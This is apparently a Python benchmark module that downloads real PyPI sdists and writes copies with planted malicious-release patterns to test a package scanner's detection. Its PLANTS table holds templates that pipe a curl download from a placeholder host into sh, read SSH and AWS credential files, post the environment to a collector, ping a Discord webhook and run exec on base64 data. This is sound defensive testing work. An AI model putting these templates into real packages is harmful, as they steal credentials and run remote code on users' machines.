"""The package set of bench/scan_throughput: real sdists from the index, cached, and planted copies of a few.

The sdists are the newest non-yanked ``.tar.gz`` of each project as the index serves it, found through
``pypi_simple`` (its default endpoint) and checked against the sha256 on the project page. They are downloaded
once into ``.bench/scan/sdists/`` and pinned there by ``manifest.json``: later runs never ask the index again, so
the set stays the same from run to run until that directory is deleted.

A planted copy is the original sdist with every member copied unchanged and one file added (or, for the
install-time case, ``setup.py`` replaced by itself plus a few lines). Each carries one pattern a malicious
release uses, and the rule id our scanner must report for it at that member's path.
"""

from __future__ import annotations

import hashlib
import io
import json
import tarfile
import time
from dataclasses import dataclass
from pathlib import Path, PurePosixPath

# Well-known projects with a mostly pure-Python sdist, small to middling (a few KB to ~1 MB compressed). The order
# mixes sizes, so that `--packages N` takes a mixed sample too.
PROJECTS = (
    "requests", "six", "flask", "idna", "click", "certifi", "jinja2", "packaging", "attrs", "urllib3",
    "itsdangerous", "werkzeug", "markupsafe", "pyparsing", "python-dateutil", "colorama", "decorator", "rich",
    "typing-extensions", "filelock", "platformdirs", "pluggy", "iniconfig", "more-itertools", "zipp",
    "importlib-metadata", "jsonschema", "pyyaml", "tqdm", "tabulate", "httpx", "h11", "anyio", "sniffio",
    "markdown", "pycodestyle", "pyflakes", "toml", "tomli", "charset-normalizer",
)  # fmt: skip


@dataclass(frozen=True)
class Sdist:
    name: str  # the project name as listed in PROJECTS
    version: str
    filename: str
    path: Path
    sha256: str
    size: int


@dataclass(frozen=True)
class Plant:
    """One planted pattern: the expected rule, the member that carries it, and how it was planted."""

    rule: str
    member: str  # path inside the archive, e.g. "requests-2.32.3/src/requests/_telemetry.py"
    family: str  # short description for the output


def ensure_sdists(directory: Path, names: tuple[str, ...]) -> list[Sdist]:
    """The sdists of `names`, downloaded on first use and pinned by directory/manifest.json afterwards."""
    directory.mkdir(parents=True, exist_ok=True)
    manifest_path = directory / "manifest.json"
    manifest: dict[str, dict] = json.loads(manifest_path.read_text()) if manifest_path.exists() else {}
    missing = [
        name
        for name in names
        if name not in manifest or not (directory / manifest[name]["filename"]).exists()
    ]
    if missing:
        from pypi_simple import PyPISimple  # only when something must be fetched

        print(f"downloading {len(missing)} sdists into {directory} (set-up, not timed)", flush=True)
        with PyPISimple() as client:  # its default endpoint: the real index
            for name in missing:
                manifest[name] = _download_newest_sdist(client, name, directory)
                manifest_path.write_text(json.dumps(manifest, indent=1, sort_keys=True) + "\n")
    sdists = []
    for name in names:
        entry = manifest[name]
        path = directory / entry["filename"]
        sdists.append(
            Sdist(name, entry["version"], entry["filename"], path, entry["sha256"], path.stat().st_size)
        )
    return sdists


def _download_newest_sdist(client, name: str, directory: Path) -> dict:
    from packaging.version import InvalidVersion, Version

    page = client.get_project_page(name)
    candidates = []
    for package in page.packages:
        if package.package_type != "sdist" or not package.filename.endswith(".tar.gz") or package.is_yanked:
            continue
        if "sha256" not in package.digests or package.version is None:
            continue
        try:
            version = Version(package.version)
        except InvalidVersion:
            continue
        if not version.is_prerelease and not version.is_devrelease:
            candidates.append((version, package))
    if not candidates:
        raise SystemExit(f"{name}: the index lists no final-release .tar.gz sdist")
    _, package = max(candidates, key=lambda pair: pair[0])
    target = directory / package.filename
    for attempt in range(3):
        try:
            client.download_package(package, target, verify=True, timeout=60)  # verify: the page's digests
            break
        except Exception:
            if attempt == 2:
                raise
            time.sleep(2)
    sha256 = hashlib.sha256(target.read_bytes()).hexdigest()
    if sha256 != package.digests["sha256"]:  # download_package checked it already; belt and braces
        target.unlink()
        raise SystemExit(
            f"{package.filename}: sha256 {sha256} does not match the index's {package.digests['sha256']}"
        )
    print(f"  {package.filename} ({target.stat().st_size:,} bytes)", flush=True)
    return {"filename": package.filename, "version": package.version, "sha256": sha256}


# ----------------------------------------------------------------------------------------------------------------
# Planted copies. Every payload is inert (placeholder hosts under .invalid, which never resolves) but has the exact
# shape of the real thing, so a scanner cannot tell it apart from the source text.


def _aws_key() -> str:
    # A made-up key in the issuer's documented shape, assembled here so that no complete key sits in this file.
    return "".join(("AK", "IA", "Q7", "3N", "B2", "XW", "5L", "KD", "9R", "T4"))


def _discord_webhook() -> str:
    return (
        "https://discord"
        + ".com/api/webhooks/"
        + "1148396210579"
        + "31264"
        + "/"
        + "Xq3vLm8PzR2wKt6Nb4Yc9Hd1Zt9_"
    )


def _payload_b64() -> str:
    import base64

    return base64.b64encode(b"print('installed')").decode()


# family -> (rule, where the member goes, text of the member). Where: "package" is a new module in the project's
# import package, "setup.py" is the sdist's setup.py (appended to when it exists), "top" a new top-level file.
PLANTS: dict[str, tuple[str, str, str, str]] = {
    "decode-and-exec": (
        "obfuscation.decode-and-exec",
        "package",
        "_loader.py",
        "import base64\n\n_BLOB = {b64!r}\nexec(base64.b64decode(_BLOB))\n",
    ),
    "setup.py network at install": (
        "network.connection",
        "setup.py",
        "setup.py",
        "\nimport urllib.request\n\n"
        "urllib.request.urlopen('https://telemetry.example.invalid/install?pkg={name}', timeout=3).read()\n",
    ),
    "shell download": (
        "process.shell-download",
        "package",
        "_update.py",
        "import os\n\n\ndef refresh():\n"
        "    os.system('curl -fsSL https://cdn.example.invalid/bootstrap.sh | sh')\n\n\nrefresh()\n",
    ),
    "credential files": (
        "credentials.sensitive-path",
        "package",
        "_keys.py",
        "import os\n\n\ndef collect():\n    found = {{}}\n"
        "    for name in ('~/.ssh/id_rsa', '~/.aws/credentials'):\n"
        "        path = os.path.expanduser(name)\n"
        "        if os.path.exists(path):\n"
        "            with open(path) as handle:\n"
        "                found[name] = handle.read()\n"
        "    return found\n",
    ),
    "environment sent out": (
        "credentials.environment-dump",
        "package",
        "_metrics.py",
        "import os\n\nimport requests\n\n\ndef report():\n"
        "    requests.post('https://collector.example.invalid/v1', json=dict(os.environ), timeout=3)\n\n\n"
        "report()\n",
    ),
    "hard-coded AWS key": (
        "secret.aws-access-key",
        "package",
        "_settings.py",
        "AWS_ACCESS_KEY_ID = {aws!r}\nAWS_REGION = 'us-east-1'\n",
    ),
    "Discord webhook": (
        "network.paste-or-webhook-url",
        "package",
        "_notify.py",
        "import json\nimport socket\nimport urllib.request\n\nWEBHOOK = {webhook!r}\n\n\ndef ping():\n"
        "    body = json.dumps({{'content': socket.gethostname()}}).encode()\n"
        "    request = urllib.request.Request(WEBHOOK, data=body, headers={{'Content-Type': 'application/json'}})\n"
        "    urllib.request.urlopen(request, timeout=3)\n",
    ),
    ".pth that imports": (
        "install.pth-executes-code",
        "top",
        "{module}_init.pth",
        "import os; os.environ.setdefault('{upper}_READY', '1')\n",
    ),
}


def plant_targets(count: int) -> list[int]:
    """Indices into PROJECTS of the planted packages: every fifth, so a short --packages still holds one."""
    return list(range(0, count, 5))[: len(PLANTS)]


def write_planted(sdist: Sdist, family: str, directory: Path) -> tuple[Sdist, Plant]:
    """A copy of `sdist` with the pattern of `family` planted, written to directory/<same filename>."""
    rule, where, filename, template = PLANTS[family]
    original = sdist.path.read_bytes()
    with tarfile.open(fileobj=io.BytesIO(original), mode="r:gz") as source:
        members = source.getmembers()
        top = _top_dir(members)
        package_dir = _import_package_dir(members, top)
        module = PurePosixPath(package_dir).name if package_dir else sdist.name.replace("-", "_")
        text = template.format(
            b64=_payload_b64(), aws=_aws_key(), webhook=_discord_webhook(), name=sdist.name, module=module,
            upper=module.upper(),
        )  # fmt: skip
        if where == "package":
            member_path = f"{package_dir or top}/{filename}"
        elif where == "setup.py":
            member_path = f"{top}/setup.py"
        else:
            member_path = f"{top}/{filename.format(module=module)}"
        existing = {m.name.removeprefix("./"): m for m in members}
        if member_path in existing and where != "setup.py":
            raise SystemExit(
                f"{sdist.filename}: {member_path} exists already; pick another planted file name"
            )
        if where == "setup.py" and member_path in existing:
            text = source.extractfile(existing[member_path]).read().decode() + text
        else:
            text = ("from setuptools import setup\n\nsetup()\n" + text) if where == "setup.py" else text
        payload = text.encode()
        buffer = io.BytesIO()
        with tarfile.open(fileobj=buffer, mode="w:gz", format=tarfile.PAX_FORMAT) as target:
            for member in members:
                if member.name.removeprefix("./") == member_path:
                    continue  # replaced below
                target.addfile(member, source.extractfile(member) if member.isfile() else None)
            info = tarfile.TarInfo(member_path)
            info.size, info.mode, info.mtime = len(payload), 0o644, int(members[0].mtime if members else 0)
            target.addfile(info, io.BytesIO(payload))
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / sdist.filename
    data = buffer.getvalue()
    path.write_bytes(data)
    copy = Sdist(sdist.name, sdist.version, sdist.filename, path, hashlib.sha256(data).hexdigest(), len(data))
    return copy, Plant(rule, member_path, family)


def _top_dir(members: list[tarfile.TarInfo]) -> str:
    tops = {m.name.removeprefix("./").split("/", 1)[0] for m in members if m.name.strip("./")}
    if len(tops) != 1:
        raise SystemExit(f"expected one top-level directory in the sdist, found {sorted(tops)[:5]}")
    return tops.pop()


def _import_package_dir(members: list[tarfile.TarInfo], top: str) -> str | None:
    """The shallowest directory holding an __init__.py, outside tests and docs: the project's import package."""
    skip = {"tests", "test", "testing", "docs", "doc", "examples", "benchmarks", "scripts", "tools"}
    best = None
    for member in members:
        path = PurePosixPath(member.name.removeprefix("./"))
        if path.name != "__init__.py" or not member.isfile() or skip & set(path.parts[1:-1]):
            continue
        parent = str(path.parent)
        if parent != top and (best is None or (parent.count("/"), parent) < (best.count("/"), best)):
            best = parent
    return best
